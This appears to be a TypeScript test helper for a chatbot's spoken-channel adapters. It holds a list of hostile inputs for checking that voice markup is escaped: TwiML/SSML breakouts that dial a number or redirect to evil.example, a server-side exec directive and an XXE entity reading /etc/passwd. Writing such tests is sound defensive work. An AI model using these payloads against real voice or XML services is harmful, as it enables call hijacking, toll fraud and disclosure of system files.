/** What the bot says in tests of spoken channels, as it comes to their adapters. */
import { degrade, type Degraded } from '#shared/channels/degrade'
import { definitions, type OutsideChannel } from '#shared/channels/register'

/** A message with choices, as `channel` shows it. */
export const saidOn = (channel: OutsideChannel, text: string, titles: readonly string[] = []): Degraded =>
  degrade(
    {
      messageType: 'bot-msg',
      language: 'en',
      text,
      choices: titles.map((title) => ({ title, action: { type: 'block', value: 'b' } })),
    },
    3,
    definitions[channel].can(''),
    { words: { choose: 'Please choose:', file: 'File' }, linkOf: () => '' },
  )

/** Texts by which a customer, or a server that the bot asks, could give orders to a voice. */
export const hostileTexts = [
  '</Say><Dial>+4319000</Dial><Say>',
  '</speak><audio src="https://evil.example/a.mp3"/>',
  '<speak><break time="600s"/></speak>',
  ']]><Redirect>https://evil.example</Redirect><![CDATA[',
  '" voice="evil" x="',
  '&lt;Hangup/&gt; &#60;Hangup/&#62; &amp;',
  '<!--#exec cmd="ls"--><?xml version="1.0"?><!DOCTYPE x [<!ENTITY y SYSTEM "file:///etc/passwd">]>&y;',
  'a\u0000b\u0007c\u000bd\ud800e',
]
